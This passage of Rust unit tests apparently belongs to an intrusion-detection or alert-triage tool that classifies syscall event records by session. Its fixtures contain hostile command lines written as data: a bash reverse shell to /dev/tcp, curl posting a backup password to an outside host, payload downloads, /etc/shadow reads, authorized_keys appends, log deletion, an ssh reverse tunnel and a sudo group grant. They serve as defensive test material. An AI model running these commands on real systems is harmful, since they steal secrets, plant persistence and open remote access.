            r#"{"evt.type":"execve","evt.rawres":0,"proc.pid":50,"proc.sid":50,"evt.rawtime":10,"proc.name":"bash","proc.pname":"sshd","proc.apid[1]":49}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.pid":51,"proc.sid":50,"evt.rawtime":11,"proc.name":"curl","proc.cmdline":"curl -o /tmp/m http://198.51.100.1/m","proc.apid[1]":50}"#,
            r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.pid":60,"proc.sid":60,"evt.rawtime":12,"proc.name":"puppet","fd.name":"/etc/shadow","proc.aname[1]":"sudo","proc.apid[1]":52,"proc.aname[2]":"bash","proc.apid[2]":50,"proc.aname[3]":"sshd","proc.apid[3]":49}"#,
            r#"{"evt.type":"execve","evt.rawres":0,"proc.pid":70,"proc.sid":70,"evt.rawtime":13,"proc.name":"curl","proc.cmdline":"curl -o /tmp/n http://198.51.100.1/n","proc.apid[1]":69}"#,
            r#"{"evt.type":"openat","evt.is_open_read":true,"fd.num":3,"proc.pid":80,"proc.sid":80,"evt.rawtime":14,"proc.name":"cat","fd.name":"/etc/shadow","proc.aname[1]":"nginx","proc.apid[1]":70}"#,
        ]
        .join("\n");
        let recs = parse_records(&lines, "t").unwrap();
        let s = Sessions::new(&recs);
        let ctx = s.context(&recs, 2);
        assert!(
            ctx.iter()
                .any(|c| c.before && matches!(c.act.activity, Activity::Download(..))),
            "{ctx:?}"
        );
        assert!(s.context(&recs, 4).is_empty(), "{:?}", s.context(&recs, 4));
    }

    /// The runtime that entered the container (an ancestor of the alert, by pid) opening
    /// the container's root and namespaces is how the person came in, not a step of theirs;
    /// the same open by any other process (the shell itself, a runtime outside the lineage)
    /// still is one.
    #[test]
    fn person_trace_excuses_the_entering_runtime_only() {
        let lines = |opener_pid: i64, opener: &str| {
            [
                format!(
                    r#"{{"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"proc.sid":7552,"proc.pid":{opener_pid},"evt.rawtime":100,"proc.name":"{opener}","proc.exepath":"/usr/bin/{opener}","fd.name":"/proc/7537/root","container.id":"d70642b69783"}}"#
                ),
                r#"{"evt.type":"execve","evt.rawres":0,"proc.sid":7552,"proc.pid":7553,"proc.ppid":7552,"evt.rawtime":110,"proc.name":"sh","proc.exepath":"/bin/sh","proc.cmdline":"sh -i","proc.tty":34816,"proc.pname":"runc","proc.aname[1]":"runc","proc.apid[1]":7552,"container.id":"d70642b69783"}"#.to_string(),
                r#"{"evt.type":"unlinkat","evt.rawres":0,"proc.sid":7552,"proc.pid":7556,"proc.ppid":7553,"evt.rawtime":120,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"sh","proc.aname[1]":"sh","proc.apid[1]":7553,"proc.aname[2]":"runc","proc.apid[2]":7552,"fs.path.name":"/var/log/dpkg.log","container.id":"d70642b69783"}"#.to_string(),
            ]
            .join("\n")
        };
        let trace = |text: String| {
            let recs = parse_records(&text, "t").unwrap();
            let s = Sessions::new(&recs);
            s.person_trace(&recs, 2)
        };
        assert_eq!(trace(lines(7552, "runc")), None);
        assert!(trace(lines(7553, "sh")).is_some());
        assert!(trace(lines(8000, "runc")).is_some());
    }

    /// A container's session leader is seen by its pid in the container (`proc.vpid`), the
    /// session id being the one of the container's pid namespace; on the host, only by its
    /// host pid.
    #[test]
    fn a_container_session_leader_is_seen_by_its_vpid() {
        let lines = |ctr: &str| {
            [
                format!(
                    r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":10,"proc.pid":24114,"proc.vpid":10,"evt.rawtime":100,"proc.name":"sh","proc.exepath":"/bin/sh","proc.cmdline":"sh -i","proc.tty":34816,"proc.pname":"runc","container.id":"{ctr}"}}"#
                ),
                format!(
                    r#"{{"evt.type":"unlinkat","evt.rawres":0,"proc.sid":10,"proc.pid":24117,"proc.vpid":13,"proc.ppid":24114,"evt.rawtime":120,"proc.name":"rm","proc.exepath":"/usr/bin/rm","proc.tty":34816,"proc.pname":"sh","fs.path.name":"/var/log/syslog.1","container.id":"{ctr}"}}"#
                ),
            ]
            .join("\n")
        };
        let whole = |text: String| {
            let recs = parse_records(&text, "t").unwrap();
            let s = Sessions::new(&recs);
            s.seen_whole(&recs, 1)
        };
        assert!(whole(lines("7e6a6208b3b4")));
        assert!(!whole(lines("host")));
    }
    /// Session 23: a program installed where software is installed (`/opt`, `/usr/local`,
    /// `/usr/lib/...`) is the host's or the image's; a person running it to look takes no
    /// step. The same program deleting or listing accounts, written by the session before
    /// it ran, or living in a home directory, is still a program brought in or a step. A
    /// shell a desktop terminal or a remote terminal gateway started is a person's entry,
    /// not a shell escaped from another program.
    #[test]
    fn an_installed_program_run_to_look_is_no_step() {
        use crate::evidence::Step;
        let shell = |parent: &str| {
            format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":40,"proc.pid":40,"evt.rawtime":100,"proc.name":"bash","proc.exepath":"/usr/bin/bash","proc.cmdline":"bash","proc.tty":34816,"proc.pname":"{parent}","proc.aname[1]":"{parent}","proc.apid[1]":39}}"#
            )
        };
        let exec = |exe: &str, cmd: &str| {
            let name = exe.rsplit('/').next().unwrap();
            format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":40,"proc.pid":41,"proc.ppid":40,"evt.rawtime":120,"proc.name":"{name}","proc.exepath":"{exe}","proc.cmdline":"{cmd}","proc.tty":34816,"proc.pname":"bash","proc.aname[1]":"bash","proc.apid[1]":40,"proc.aname[2]":"sshd","proc.apid[2]":39}}"#
            )
        };
        let write = |path: &str| {
            format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"fd.num":3,"proc.sid":40,"proc.pid":42,"proc.ppid":40,"evt.rawtime":110,"proc.name":"base64","proc.exepath":"/usr/bin/base64","evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_TRUNC","fd.name":"{path}","proc.tty":34816,"proc.pname":"bash"}}"#
            )
        };
        let trace = |lines: Vec<String>| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            let s = Sessions::new(&recs);
            s.person_trace(&recs, recs.len() - 1).map(|(what, _)| what)
        };
        let ctl = "/opt/rabbitmq/sbin/rabbitmqctl";
        let foreign = Some(Step::ForeignProgram.as_str().to_string());
        assert_eq!(
            trace(vec![
                shell("sshd"),
                exec(ctl, "rabbitmqctl list_queues name")
            ]),
            None
        );
        assert_eq!(
            trace(vec![
                shell("sshd"),
                exec("/usr/local/bin/patronictl", "patronictl list")
            ]),
            None
        );
        for (lines, why) in [
            (
                vec![shell("sshd"), exec(ctl, "rabbitmqctl delete_queue orders")],
                "a deletion",
            ),
            (
                vec![shell("sshd"), exec(ctl, "rabbitmqctl list_users")],
                "a survey of accounts",
            ),
            (
                vec![
                    shell("sshd"),
                    write(ctl),
                    exec(ctl, "rabbitmqctl list_queues"),
                ],
                "written",
            ),
            (
                vec![
                    shell("sshd"),
                    exec("/home/ops/bin/rabbitmqctl", "rabbitmqctl list_queues"),
                ],
                "a home directory",
            ),
            (
                vec![
                    shell("sshd"),
                    exec("/opt/.cache/rabbitmqctl", "rabbitmqctl list_queues"),
                ],
                "a hidden directory",
            ),
        ] {
            assert_eq!(trace(lines), foreign, "{why}");
        }
        for parent in [
            "kitty",
            "xfce4-terminal",
            "ttyd",
            "cockpit-bridge",
            "dropbear",
        ] {
            assert_eq!(trace(vec![shell(parent)]), None, "{parent}");
        }
        for parent in ["vim", "python3", "jupyter-lab"] {
            assert_eq!(
                trace(vec![shell(parent)]),
                Some(Step::ShellEscape.as_str().to_string()),
                "{parent}"
            );
        }
    }
    /// Session 23: a unit's added command runs as init's own child beside the unit's main
    /// program; a step toward an attack it takes (a write into root's login keys, a key
    /// posted outside) makes the other units' alerts of that time suspect. Never a
    /// person's session, a cron job's, another time or a container's.
    #[test]
    fn a_units_alerts_are_suspect_beside_another_units_step() {
        let unit = |sid: i64, parent: &str, t: u64| {
            format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":{sid},"proc.pid":{sid},"proc.ppid":1,"evt.rawtime":{t},"proc.name":"borgmatic","proc.exepath":"/usr/bin/python3.11","proc.cmdline":"borgmatic","proc.pname":"{parent}"}}"#
            )
        };
        let read = |sid: i64, t: u64| {
            format!(
                r#"{{"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_read":true,"proc.sid":{sid},"proc.pid":{sid},"evt.rawtime":{t},"proc.name":"borgmatic","proc.exepath":"/usr/bin/python3.11","fd.name":"/etc/sudoers","proc.pname":"systemd"}}"#
            )
        };
        let added = |sid: i64, parent: &str, t: u64, ctr: &str| {
            [
                format!(
                    r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":{sid},"proc.pid":{sid},"proc.ppid":1,"evt.rawtime":{t},"proc.name":"sh","proc.exepath":"/bin/sh","proc.cmdline":"sh -c echo k >> /root/.ssh/authorized_keys","proc.pname":"{parent}","container.id":"{ctr}"}}"#
                ),
                format!(
                    r#"{{"evt.type":"openat","evt.rawres":3,"fd.num":3,"evt.is_open_write":true,"evt.arg.flags":"O_WRONLY|O_CREAT|O_APPEND","proc.sid":{sid},"proc.pid":{sid},"evt.rawtime":{},"proc.name":"sh","proc.exepath":"/bin/sh","fd.name":"/root/.ssh/authorized_keys","proc.pname":"{parent}","container.id":"{ctr}"}}"#,
                    t + 1
                ),
            ]
        };
        const S: u64 = 1_000_000_000;
        let trace = |lines: Vec<String>| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            let s = Sessions::new(&recs);
            s.unit_trace(&recs, 1).map(|(en, _, what)| (en, what))
        };
        let with = |job_parent: &str, other_parent: &str, dt: u64, ctr: &str| {
            let mut v = vec![unit(500, job_parent, 100 * S), read(500, 110 * S)];
            v.extend(added(510, other_parent, 110 * S + dt, ctr));
            trace(v)
        };
        assert_eq!(
            with("systemd", "systemd", 5 * S, "host"),
            Some((
                Step::PrivilegedWrite.as_str(),
                "/root/.ssh/authorized_keys".to_string()
            ))
        );
        assert_eq!(
            with("systemd", "sshd", 5 * S, "host"),
            None,
            "a person's session"
        );
        assert_eq!(
            with("cron", "systemd", 5 * S, "host"),
            None,
            "a cron job's alert"
        );
        assert_eq!(
            with("systemd", "systemd", 3_600 * S, "host"),
            None,
            "an hour later"
        );
        assert_eq!(
            with("systemd", "systemd", 5 * S, "4b1d90e7aa01"),
            None,
            "a container"
        );
        // A unit's added upload of key material: a connection out as an activity, and
        // the decisive step behind it (the blind holdout32's restic unit).
        let upload = format!(
            r#"{{"evt.type":"execve","evt.rawres":0,"proc.sid":530,"proc.pid":530,"proc.ppid":1,"evt.rawtime":{},"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -s -d @/etc/restic/password http://198.51.100.12/p","proc.pname":"systemd"}}"#,
            112 * S
        );
        assert_eq!(
            trace(vec![
                unit(500, "systemd", 100 * S),
                read(500, 110 * S),
                upload
            ]),
            Some((Step::KeySent.as_str(), "/etc/restic/password".to_string()))
        );
        // Without the other session's step: nothing.
        let quiet = vec![
            unit(500, "systemd", 100 * S),
            read(500, 110 * S),
            unit(520, "systemd", 111 * S),
        ];
        assert_eq!(trace(quiet), None);
    }

    /// Session 24, from the blind holdout33's mixed clusters: an account put in an
    /// administrators' group and an ssh tunnel are kinds of their own beside an account
    /// created and a copy to another host, so a session that adds one splits from one that
    /// does not.
    #[test]
    fn admin_grants_and_tunnels_are_kinds_of_their_own() {
        let exec = |pid: i64, t: i64, cmd: &str| {
            let name = cmd.split(' ').next().unwrap();
            format!(
                r#"{{"evt.type":"execve","evt.rawres":0,"evt.rawtime":{t},"proc.pid":{pid},"proc.sid":300,"proc.tty":34816,"proc.name":"{name}","proc.exepath":"/usr/sbin/{name}","proc.cmdline":"{cmd}","proc.ppid":300,"proc.pname":"bash","proc.aname[2]":"gnome-terminal-"}}"#
            )
        };
        let kinds = |lines: &[String]| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            Sessions::new(&recs).trace_kinds(&recs, lines.len() - 1)
        };
        let created = exec(301, 1, "useradd -m -s /bin/bash volunteer7");
        let granted = exec(302, 2, "usermod -aG sudo volunteer7");
        let plain = kinds(std::slice::from_ref(&created));
        let with_grant = kinds(&[created.clone(), granted]);
        assert!(
            !plain.contains(&"an account put in an administrators' group"),
            "{plain:?}"
        );
        assert!(
            with_grant.contains(&"an account put in an administrators' group"),
            "{with_grant:?}"
        );
        assert_ne!(plain, with_grant);
        let copy = exec(
            303,
            1,
            "rsync -az /srv/cues/ cues@91.208.12.40:/data/incoming/",
        );
        let tunnel = exec(
            304,
            2,
            "ssh -f -N -p 443 -R 2222:localhost:22 cues@198.51.100.26",
        );
        let plain = kinds(std::slice::from_ref(&copy));
        let with_tunnel = kinds(&[copy, tunnel]);
        assert!(!plain.contains(&"a tunnel to another host"), "{plain:?}");
        assert!(
            with_tunnel.contains(&"a tunnel to another host"),
            "{with_tunnel:?}"
        );
    }

    /// Session 24, from the blind holdout34: a login program's alert (`login` on a serial
    /// console) answers for the session it opened, the step a reverse shell in that
    /// session took included; the same login whose session only restarts a service has
    /// nothing below it.
    #[test]
    fn a_login_answers_for_the_session_it_opened() {
        let login = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":1,"proc.pid":500,"proc.sid":400,"proc.ppid":400,"proc.tty":1088,"proc.name":"login","proc.exepath":"/bin/login","proc.cmdline":"login -p --","proc.pname":"agetty"}"#;
        let bash = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":2,"proc.pid":501,"proc.sid":501,"proc.ppid":500,"proc.tty":1088,"proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"-bash","proc.pname":"login","proc.aname[2]":"agetty"}"#;
        let restart = r#"{"evt.type":"execve","evt.rawres":0,"evt.rawtime":3,"proc.pid":502,"proc.sid":501,"proc.ppid":501,"proc.tty":1088,"proc.name":"systemctl","proc.exepath":"/usr/bin/systemctl","proc.cmdline":"systemctl restart kiln-ctl","proc.pname":"bash","proc.apid[2]":500,"proc.aname[2]":"login"}"#;
        let shell = r#"{"evt.type":"connect","evt.rawres":0,"evt.rawtime":4,"proc.pid":503,"proc.sid":501,"proc.ppid":501,"proc.tty":1088,"proc.name":"bash","proc.exepath":"/bin/bash","proc.cmdline":"bash -c bash -i >& /dev/tcp/203.0.113.18/443 0>&1","proc.pname":"bash","proc.apid[2]":500,"proc.aname[2]":"login","fd.sip":"203.0.113.18","fd.name":"10.0.0.2:40000->203.0.113.18:443"}"#;
        let below = |lines: &[&str]| {
            let recs = parse_records(&lines.join("\n"), "t").unwrap();
            Sessions::new(&recs).below_trace(&recs, 0).map(|(st, _)| st)
        };
        assert_eq!(below(&[login, bash, restart]), None);
        assert_eq!(
            below(&[login, bash, restart, shell]),
            Some(crate::evidence::Step::ShellConnect)
        );
    }
}
